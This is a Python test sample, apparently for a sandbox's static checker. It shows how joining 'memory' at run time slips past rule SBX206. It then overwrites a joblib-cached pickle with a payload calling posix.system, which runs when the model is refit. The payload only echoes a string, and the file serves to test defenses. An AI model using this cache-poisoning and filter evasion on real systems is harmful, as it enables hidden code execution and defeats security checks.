# family: data_pickle
# reached: process, before process 1 closed the door (runner/sandbox/init.py, settle_packages)
# layer: static
# static: missed
# SBX206 judges the string "memory" as a grid key; a key joined at run time names the same
# Pipeline parameter: GridSearchCV sets the joblib cache through clone/set_params, and the
# program rewrites the cached pickle before the next fit loads it.
import pathlib
import numpy as np
from sklearn.linear_model import LinearRegression
from sklearn.model_selection import GridSearchCV
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import StandardScaler

X = np.arange(40.0).reshape(20, 2)
y = np.arange(20.0)
pipe = Pipeline([("scale", StandardScaler()), ("lr", LinearRegression())])
key = "".join(["mem", "ory"])
search = GridSearchCV(pipe, {key: ["fitcache"]}, cv=2)
search.fit(X, y)
for cached in pathlib.Path("fitcache").rglob("output.pkl"):
    cached.write_bytes(b"cposix\nsystem\n(S'echo pwned-grid'\ntR.")
try:
    search.fit(X, y)
except (TypeError, ValueError) as exc:
    print("refit failed:", type(exc).__name__)
